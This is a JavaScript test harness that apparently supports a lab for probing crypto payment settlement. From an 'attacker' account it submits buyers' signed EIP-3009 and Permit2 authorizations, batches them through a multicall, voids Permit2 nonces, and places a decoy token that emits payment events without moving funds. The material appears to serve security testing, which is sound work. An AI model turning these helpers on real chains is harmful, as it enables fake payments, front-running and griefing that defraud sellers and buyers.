// What anybody may do on the chain with what a buyer has signed.
import { readFileSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { encodeFunctionData, parseAbi } from 'viem';
import { ACCOUNTS, ARTIFACTS, EXACT_PROXY, HOST, RPC_URL, USDC } from './config.mjs';
import { publicClient, testClient, walletClient } from './evm.mjs';

const MULTICALL = '0x00000000000000000000000000000000000ba7c4';
const MISLEADING_TOKEN = '0x00000000000000000000000000000000000bad00';
const PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';

const tokenAbi = parseAbi([
  'function transferWithAuthorization(address, address, uint256, uint256, uint256, bytes32, bytes)',
  'function transferFrom(address, address, uint256) returns (bool)',
  'function approve(address, uint256) returns (bool)',
]);
const misleadingAbi = parseAbi(['function pretend(address, address, uint256, bytes32)']);
const batchAbi = parseAbi([
  'struct Call { address target; bytes callData; }',
  'struct Result { bool success; bytes returnData; }',
  'function tryAggregate(bool, Call[]) payable returns (Result[])',
]);
const proxyAbi = parseAbi([
  'struct TokenPermissions { address token; uint256 amount; }',
  'struct Permit { TokenPermissions permitted; uint256 nonce; uint256 deadline; }',
  'struct Witness { address to; uint256 validAfter; }',
  'function settle(Permit, address, Witness, bytes)',
]);
const permit2Abi = parseAbi(['function invalidateUnorderedNonces(uint256, uint256)']);

export async function placeContracts() {
  for (const [name, address] of [
    ['LabMulticall3', MULTICALL],
    ['LabMisleadingToken', MISLEADING_TOKEN],
  ]) {
    const { runtime } = JSON.parse(readFileSync(path.join(ARTIFACTS, `${name}.json`), 'utf8'));
    await testClient.setCode({ address, bytecode: runtime });
  }
}

let last = Promise.resolve();

/** One transaction after the other: parallel ones would take the same account nonce. */
function mined(write) {
  const sent = last.then(async () => {
    const receipt = await publicClient.waitForTransactionReceipt({ hash: await write() });
    if (receipt.status !== 'success') throw new Error('a transaction of the attacker reverted');
    return receipt.transactionHash;
  });
  last = sent.catch(() => {});
  return sent;
}

// --- calls

/** The call that settles an EIP-3009 payment, which needs nobody's consent. */
export function authorized({ authorization, signature }) {
  const { from, to, value, validAfter, validBefore, nonce } = authorization;
  const args = [from, to, BigInt(value), BigInt(validAfter), BigInt(validBefore), nonce, signature];
  return {
    target: USDC,
    callData: encodeFunctionData({ abi: tokenAbi, functionName: 'transferWithAuthorization', args }),
  };
}

/** A call that emits the events of a payment and moves nothing. */
export const pretended = ({ from, to, value, nonce }) => ({
  target: MISLEADING_TOKEN,
  callData: encodeFunctionData({
    abi: misleadingAbi,
    functionName: 'pretend',
    args: [from, to, BigInt(value), nonce],
  }),
});

/** A plain transfer of the batch contract, which the payer has approved. */
export const pulled = (from, to, value) => ({
  target: USDC,
  callData: encodeFunctionData({ abi: tokenAbi, functionName: 'transferFrom', args: [from, to, value] }),
});

/** The call that settles a Permit2 payment. */
export function permitted({ signature, permit2Authorization: { from, permitted, nonce, deadline, witness } }) {
  const permit = {
    permitted: { token: permitted.token, amount: BigInt(permitted.amount) },
    nonce: BigInt(nonce),
    deadline: BigInt(deadline),
  };
  const args = [permit, from, { to: witness.to, validAfter: BigInt(witness.validAfter) }, signature];
  return { target: EXACT_PROXY, callData: encodeFunctionData({ abi: proxyAbi, functionName: 'settle', args }) };
}

// --- transactions

export const sendCall = ({ target, callData }) =>
  mined(() => walletClient(ACCOUNTS.attacker).sendTransaction({ to: target, data: callData }));

/** Several calls in one transaction. */
export const sendBatch = (...calls) =>
  mined(() =>
    walletClient(ACCOUNTS.attacker).writeContract({
      address: MULTICALL,
      abi: batchAbi,
      functionName: 'tryAggregate',
      args: [true, calls],
    }),
  );

export const approveBatches = (account, amount) =>
  mined(() =>
    walletClient(account).writeContract({
      address: USDC,
      abi: tokenAbi,
      functionName: 'approve',
      args: [MULTICALL, amount],
    }),
  );

/** Makes a nonce of Permit2 void, which its owner may do for 256 at once. */
export const invalidate = (account, nonce) =>
  mined(() =>
    walletClient(account).writeContract({
      address: PERMIT2,
      abi: permit2Abi,
      functionName: 'invalidateUnorderedNonces',
      args: [BigInt(nonce) >> 8n, 1n << (BigInt(nonce) & 255n)],
    }),
  );

/** A way to the node that counts calls. */
export async function countingNode() {
  const node = { calls: 0 };
  const server = http.createServer(async (request, response) => {
    const chunks = [];
    for await (const chunk of request) chunks.push(chunk);
    const body = Buffer.concat(chunks);
    const calls = JSON.parse(body);
    node.calls += Array.isArray(calls) ? calls.length : 1;
    const answer = await fetch(RPC_URL, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });
    response.writeHead(answer.status, { 'Content-Type': 'application/json' });
    response.end(Buffer.from(await answer.arrayBuffer()));
  });
  await new Promise((resolve) => server.listen(0, HOST, resolve));
  node.url = `http://${HOST}:${server.address().port}`;
  node.stop = () => {
    server.closeAllConnections();
    server.close();
  };
  return node;
}
